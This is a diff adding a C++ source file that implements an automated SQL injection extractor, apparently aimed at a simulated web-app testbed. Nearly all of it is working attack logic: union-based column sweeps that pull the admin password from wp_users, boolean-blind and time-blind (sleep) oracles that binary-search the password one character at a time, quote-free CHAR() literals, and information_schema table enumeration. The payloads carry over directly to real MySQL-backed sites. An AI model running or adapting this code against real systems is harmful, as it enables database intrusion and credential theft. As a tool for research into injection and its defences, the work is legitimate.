@@ -1,0 +1,182 @@
+#include "attack/extractor.h"
+
+#include "attack/exploit.h"
+
+#include "util/strings.h"
+
+namespace joza::attack {
+
+namespace {
+
+// "CHAR(97,100,109,105,110)" — a quote-free string literal.
+std::string CharLiteral(std::string_view s) {
+  std::string out = "CHAR(";
+  for (std::size_t i = 0; i < s.size(); ++i) {
+    if (i > 0) out += ",";
+    out += std::to_string(static_cast<unsigned char>(s[i]));
+  }
+  out += ")";
+  return out;
+}
+
+}  // namespace
+
+http::Response Extractor::Send(const std::string& payload) {
+  ++requests_;
+  return SendPayload(app_, plugin_, payload);
+}
+
+std::string Extractor::WrapCondition(const std::string& cond) const {
+  // Context-appropriate carrier for an attacker-chosen boolean.
+  const std::string head = plugin_.quoted ? "zzz' " : "0 ";
+  const std::string tail = plugin_.quoted ? " -- a" : "";
+  if (plugin_.mode == webapp::ResponseMode::kDoubleBlind) {
+    return head + "or (select if(" + cond +
+           ", sleep(1), 0) from wp_users where id = 1)" + tail;
+  }
+  return head + "or (" + cond + ")" + tail;
+}
+
+bool Extractor::Oracle(const std::string& cond) {
+  if (plugin_.mode == webapp::ResponseMode::kDoubleBlind) {
+    http::Response r = Send(WrapCondition(cond));
+    return r.virtual_time_ms > 500.0;
+  }
+  // Boolean channel: compare against a known-false response baseline.
+  http::Response truthy = Send(WrapCondition(cond));
+  http::Response falsy = Send(WrapCondition("1 = 2"));
+  return truthy.status != falsy.status || truthy.body != falsy.body;
+}
+
+bool Extractor::ProbeInjectable() {
+  if (plugin_.mode == webapp::ResponseMode::kDoubleBlind) {
+    http::Response fast = Send(WrapCondition("1 = 2"));
+    http::Response slow = Send(WrapCondition("1 = 1"));
+    return slow.virtual_time_ms - fast.virtual_time_ms > 500.0;
+  }
+  http::Response t = Send(WrapCondition("1 = 1"));
+  http::Response f = Send(WrapCondition("1 = 2"));
+  return t.status != f.status || t.body != f.body;
+}
+
+ExtractionResult Extractor::ExtractViaUnion(std::size_t max_len) {
+  ExtractionResult result;
+  result.technique = "union";
+
+  // Column-count discovery: append NULL columns until the union stops
+  // erroring (the classic sweep — our engine raises the same "different
+  // number of columns" error MySQL does).
+  const std::string head = plugin_.quoted ? "zzz' " : "0 ";
+  const std::string tail = plugin_.quoted ? " -- a" : "";
+  const std::string target =
+      "pass from wp_users where login = " + CharLiteral("admin");
+  for (int columns = 1; columns <= 8; ++columns) {
+    std::string arm = "union select ";
+    for (int i = 0; i < columns - 1; ++i) arm += "null, ";
+    arm += target;
+    http::Response r = Send(head + arm + tail);
+    if (r.body.find("Database error") != std::string::npos) continue;
+    if (r.status != 200) continue;
+    // The hash is whatever non-null cell the page renders that a benign
+    // no-match request does not render.
+    http::Response benign = Send(plugin_.quoted ? "zzz" : "0");
+    if (r.body == benign.body) continue;  // union row didn't render
+    // Crude cell harvest: strip the list markup of the testbed pages.
+    std::string body = r.body;
+    for (const char* tag : {"<ul>", "</ul>", "<li>", "NULL | ", " | NULL"}) {
+      std::size_t pos;
+      while ((pos = body.find(tag)) != std::string::npos) {
+        body.erase(pos, std::string(tag).size());
+      }
+    }
+    std::size_t end = body.find("</li>");
+    if (end != std::string::npos) body = body.substr(0, end);
+    result.injectable = true;
+    result.extracted = body.substr(0, max_len);
+    result.success = !result.extracted.empty();
+    result.requests_used = requests_;
+    return result;
+  }
+  result.requests_used = requests_;
+  return result;
+}
+
+ExtractionResult Extractor::ExtractViaOracle(std::size_t max_len,
+                                             const char* name) {
+  ExtractionResult result;
+  result.technique = name;
+  result.injectable = ProbeInjectable();
+  if (!result.injectable) {
+    result.requests_used = requests_;
+    return result;
+  }
+  const std::string admin = CharLiteral("admin");
+  for (std::size_t i = 1; i <= max_len; ++i) {
+    // Binary search ascii(substring(pass, i, 1)) in [0, 127].
+    int lo = 0, hi = 127;
+    while (lo < hi) {
+      int mid = (lo + hi) / 2;
+      const std::string cond =
+          "select count(*) from wp_users where login = " + admin +
+          " and ascii(substring(pass, " + std::to_string(i) + ", 1)) > " +
+          std::to_string(mid);
+      if (Oracle("(" + cond + ") > 0")) {
+        lo = mid + 1;
+      } else {
+        hi = mid;
+      }
+    }
+    if (lo == 0) break;  // past the end of the secret: ASCII('') = 0
+    result.extracted.push_back(static_cast<char>(lo));
+  }
+  result.success = !result.extracted.empty();
+  result.requests_used = requests_;
+  return result;
+}
+
+std::vector<std::string> Extractor::EnumerateTables() {
+  if (plugin_.mode != webapp::ResponseMode::kData) return {};
+  const std::string head = plugin_.quoted ? "zzz' " : "0 ";
+  const std::string tail = plugin_.quoted ? " -- a" : "";
+  for (int columns = 1; columns <= 8; ++columns) {
+    std::string arm = "union select ";
+    for (int i = 0; i < columns - 1; ++i) arm += "null, ";
+    arm += "group_concat(table_name) from information_schema.tables";
+    http::Response r = Send(head + arm + tail);
+    if (r.status != 200 ||
+        r.body.find("Database error") != std::string::npos) {
+      continue;
+    }
+    // The concatenated list is the only cell containing commas between
+    // identifier-looking words; harvest it from the rendered row.
+    std::size_t li = r.body.find("<li>");
+    if (li == std::string::npos) continue;
+    std::size_t end = r.body.find("</li>", li);
+    std::string cell = r.body.substr(li + 4, end - li - 4);
+    // Strip any leading "NULL | " paddings from the null columns.
+    std::size_t pos;
+    while ((pos = cell.find("NULL | ")) != std::string::npos) {
+      cell.erase(pos, 7);
+    }
+    std::vector<std::string> tables;
+    for (const std::string& name : Split(cell, ',')) {
+      if (!name.empty()) tables.push_back(name);
+    }
+    if (!tables.empty()) return tables;
+  }
+  return {};
+}
+
+ExtractionResult Extractor::ExtractSecret(std::size_t max_len) {
+  switch (plugin_.mode) {
+    case webapp::ResponseMode::kData:
+      return ExtractViaUnion(max_len);
+    case webapp::ResponseMode::kBlind:
+      return ExtractViaOracle(max_len, "boolean-blind");
+    case webapp::ResponseMode::kDoubleBlind:
+      return ExtractViaOracle(max_len, "time-blind");
+  }
+  return {};
+}
+
+}  // namespace joza::attack
